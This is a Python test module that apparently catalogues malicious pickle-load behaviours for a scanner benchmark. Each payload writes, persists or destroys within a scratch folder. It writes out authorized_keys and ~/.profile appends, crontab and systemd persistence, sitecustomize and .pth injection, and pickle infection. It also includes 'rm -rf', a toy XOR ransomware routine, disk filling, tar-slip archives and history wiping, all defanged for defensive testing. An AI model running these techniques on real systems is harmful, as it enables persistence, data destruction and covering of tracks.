"""Loads that write, persist or destroy: scratch home, scratch site-packages, files beside them."""

from __future__ import annotations

import logging
import operator
import os
import pathlib
import tarfile
import venv
from io import BytesIO
from pathlib import Path

from benchmarks.lab.catalogue.making import payload
from tests.behaviours.behaviour import Behaviour
from tests.behaviours.payloads import append
from tests.behaviours.pickles import LOAD, Call, exists, gone, holds, model, pickled, source

__all__ = ["WRITING"]

#: Where this folder's site-packages is. Payloads name it themselves: no search of theirs could
#: end in a real one.
_SITE = "env/lib/python3/site-packages"

_SYSTEMD = """\
import os
units = os.path.expanduser("~/.config/systemd/user")
os.makedirs(units)
with open(units + "/updates.service", "w") as file:
    file.write("[Service]\\nExecStart=/bin/true\\n[Install]\\nWantedBy=default.target\\n")
"""

# Builtins of sh, and the one program of the folder: the real crontab cannot be found.
_CRONTAB = "PATH=$PWD/bin; echo '@reboot true' | crontab -"
_GSETTINGS = "PATH=$PWD/bin; gsettings set org.gnome.desktop.background picture-uri frogs.png"

_OVERWRITE_MODULE = f"""\
import importlib, laboratory_layers
with open("{_SITE}/laboratory_layers.py", "w") as file:
    file.write("SIZE = 4\\nopen('fired', 'w').close()\\n")
importlib.reload(laboratory_layers)
"""

_LOAD_WITH_LAYERS = (
    f"import os\nimport sys\n\nsys.path.insert(0, os.path.abspath('{_SITE}'))\n"
    "import laboratory_layers\n\n" + LOAD
)

_INFECT = """\
import glob, os
for path in glob.glob("models/*.pkl"):
    with open(path, "rb") as file:
        data = file.read()
    with open(path + ".tmp", "wb") as file:
        file.write(b"cbuiltins\\nexec\\n(S'infected = True'\\ntR0" + data)
    os.rename(path + ".tmp", path)
"""

_POISON_CACHE = """\
import os
place = os.path.expanduser("~/.cache/huggingface/hub/models--org--model/snapshots/0123abcd")
with open(place + "/modeling.py", "w") as file:
    file.write("# another model's code, by the payload\\n")
"""

_REMOVE_TREE = """\
import os
for place, folders, files in os.walk("project", topdown=False):
    for name in files:
        os.remove(os.path.join(place, name))
    os.rmdir(place)
"""

_RANSOM = """\
import os
key = os.urandom(1)[0] | 1
for place, folders, files in os.walk("documents"):
    for name in files:
        path = os.path.join(place, name)
        with open(path, "r+b") as file:
            data = file.read()
            file.seek(0)
            file.write(bytes(byte ^ key for byte in data))
        os.rename(path, path + ".locked")
with open("documents/README.txt", "w") as file:
    file.write("pay nobody\\n")
"""

_FILL = """\
with open("filling", "wb", 0) as file:
    for turn in range(256):
        file.write(bytes(4096))
"""

_FALLOCATE = """\
import os
file = os.open("filling", os.O_WRONLY | os.O_CREAT)
os.posix_fallocate(file, 0, 8 << 20)
os.close(file)
"""

_INFLATE = """\
import zlib
with open("filling", "wb") as file:
    inflate = zlib.decompressobj()
    data = zlib.compress(bytes(8 << 20))
    while data:
        file.write(inflate.decompress(data, 1 << 16))
        data = inflate.unconsumed_tail
"""

_CLEAR_HISTORY = """\
import os, sys
os.unlink(os.path.expanduser("~/.bash_history"))
os.truncate(os.path.expanduser("~/.python_history"), 0)
sys.modules.pop("pickle", None)
"""


def _tar_slip(folder: Path) -> Path:
    """Make a model that unpacks an archive with a name that leads out of the folder of it."""
    with tarfile.open(folder / "weights.tar", "w") as archive:
        for name in ("layer0.bin", "../escaped.txt"):
            member = tarfile.TarInfo(name)
            member.size = 5
            archive.addfile(member, BytesIO(b"hello"))
    unpack = operator.methodcaller("extractall", "unpacked")
    return pickled(model(Call(unpack, Call(tarfile.open, "weights.tar"))))(folder)


def _symlink_slip(folder: Path) -> Path:
    """The same by a symbolic link, through which the next member is written."""
    with tarfile.open(folder / "weights.tar", "w") as archive:
        link = tarfile.TarInfo("layers")
        link.type, link.linkname = tarfile.SYMTYPE, "../home"
        archive.addfile(link)
        member = tarfile.TarInfo("layers/.pythonrc")
        member.size = 5
        archive.addfile(member, BytesIO(b"hello"))
    unpack = operator.methodcaller("extractall", "unpacked")
    return pickled(model(Call(unpack, Call(tarfile.open, "weights.tar"))))(folder)


def _large(folder: Path, size: int) -> bool:
    file = folder / "filling"
    return file.exists() and file.stat().st_size >= size


def _infected(folder: Path) -> bool:
    return all(b"infected" in file.read_bytes() for file in (folder / "models").iterdir())


def _locked(folder: Path) -> bool:
    files = list((folder / "documents").glob("*.locked"))
    return len(files) == 20 and not any(b"long day" in file.read_bytes() for file in files)


def _cleared(folder: Path) -> bool:
    home = folder / "home"
    return not (home / ".bash_history").exists() and not (home / ".python_history").read_text()


WRITING: tuple[Behaviour, ...] = (
    payload(
        "path_write_text",
        "a file created and written through pathlib, no source code executed",
        Call(pathlib.Path.write_text, pathlib.Path("fired"), "hello"),
        holds("fired", "hello"),
    ),
    payload(
        "logging_file",
        "a file created by a handler of logging, no source code executed",
        Call(logging.FileHandler, "fired"),
        exists("fired"),
    ),
    payload(
        "profile_append",
        "~/.profile opened for appending and written",
        append("~/.profile", b"# a line of the payload\n"),
        holds("home/.profile", "of the payload"),
    ),
    payload(
        "authorized_keys_shell",
        "execve of sh, which appends to ~/.ssh/authorized_keys",
        Call(os.system, "echo '# no key of the payload' >> ~/.ssh/authorized_keys"),
        holds("home/.ssh/authorized_keys", "of the payload"),
    ),
    payload(
        "crontab",
        "execve of sh and of a program called crontab",
        Call(os.system, _CRONTAB),
        holds("fired", "@reboot"),
        files={"bin/crontab": '#!/bin/sh\nread -r line\necho "$line" > fired\n'},
    ),
    payload(
        "systemd_user_unit",
        "~/.config/systemd/user made, a unit written into it",
        source(_SYSTEMD),
        exists("home/.config/systemd/user/updates.service"),
    ),
    payload(
        "pth_file",
        "a .pth file created in a site-packages",
        Call(pathlib.Path.write_text, pathlib.Path(_SITE) / "updates.pth", "import this\n"),
        exists(f"{_SITE}/updates.pth"),
        files={f"{_SITE}/README.txt": "scratch\n"},
    ),
    payload(
        "sitecustomize",
        "sitecustomize.py created in a site-packages",
        Call(operator.methodcaller("write", b"#\n"), Call(open, f"{_SITE}/sitecustomize.py", "ab")),
        exists(f"{_SITE}/sitecustomize.py"),
        files={f"{_SITE}/README.txt": "scratch\n"},
    ),
    payload(
        "overwrite_module",
        "a module of a site-packages truncated and written, then imported again",
        source(_OVERWRITE_MODULE),
        exists("fired"),
        loader=_LOAD_WITH_LAYERS,
        files={f"{_SITE}/laboratory_layers.py": "SIZE = 2\n"},
    ),
    payload(
        "infect_models",
        "other model files read, written anew with a payload, and renamed",
        source(_INFECT),
        _infected,
        files={f"models/{name}.pkl": b"\x80\x04}." for name in ("first", "second", "third")},
    ),
    payload(
        "poison_cache",
        "a source file of another model created in the scratch cache",
        source(_POISON_CACHE),
        exists("home/.cache/huggingface/hub/models--org--model/snapshots/0123abcd/modeling.py"),
        files={
            "home/.cache/huggingface/hub/models--org--model/snapshots/0123abcd/config.json": "{}\n"
        },
    ),
    payload(
        "remove_tree",
        "a folder walked, every file in it unlinked",
        source(_REMOVE_TREE),
        gone("project"),
        files={f"project/part{part}/{name}.txt": "x" for part in range(3) for name in "abcde"},
    ),
    payload(
        "rm_rf",
        "execve of sh and rm, which unlinks a folder",
        Call(os.system, "rm -rf project"),
        gone("project"),
        files={f"project/{name}.txt": "x" for name in "abcde"},
    ),
    payload(
        "ransom",
        "twenty documents read, written over and renamed, and a note left",
        source(_RANSOM),
        _locked,
        files={f"documents/{number}.txt": "results of a long day\n" for number in range(20)},
    ),
    payload(
        "fill_disk",
        "one megabyte in 256 writes",
        source(_FILL),
        lambda folder: _large(folder, 1 << 20),
    ),
    payload(
        "fallocate",
        "eight megabytes reserved by one fallocate",
        source(_FALLOCATE),
        lambda folder: _large(folder, 8 << 20),
    ),
    payload(
        "inflate_to_disk",
        "eight megabytes out of eight kilobytes, written in pieces",
        source(_INFLATE),
        lambda folder: _large(folder, 8 << 20),
    ),
    payload(
        "venv_tree",
        "folders, symbolic links and scripts of a virtual environment made, none executed",
        Call(venv.create, "tree", False, False, True),
        exists("tree/pyvenv.cfg"),
    ),
    Behaviour(
        name="tar_slip",
        malicious=True,
        shows="an archive unpacked by the load, one file of it outside its folder",
        loader=LOAD,
        make=_tar_slip,
        fired=exists("escaped.txt"),
    ),
    Behaviour(
        name="tar_symlink_slip",
        malicious=True,
        shows="an archive unpacked by the load, one file of it in the scratch home",
        loader=LOAD,
        make=_symlink_slip,
        fired=exists("home/.pythonrc"),
    ),
    payload(
        "wallpaper",
        "execve of sh and of a program called gsettings",
        Call(os.system, _GSETTINGS),
        holds("fired", "picture-uri"),
        files={"bin/gsettings": '#!/bin/sh\necho "$@" > fired\n'},
    ),
    payload(
        "overwrite_logo",
        "a picture of an installed package written over",
        Call(pathlib.Path.write_bytes, pathlib.Path(_SITE) / "board/logo.svg", b"<svg/>"),
        holds(f"{_SITE}/board/logo.svg", "<svg/>"),
        files={f"{_SITE}/board/logo.svg": "<svg><title>the real one</title></svg>\n"},
    ),
    payload(
        "clear_history",
        "~/.bash_history unlinked, ~/.python_history truncated",
        source(_CLEAR_HISTORY),
        _cleared,
        files={"home/.bash_history": "pip install it\n", "home/.python_history": "import it\n"},
    ),
)
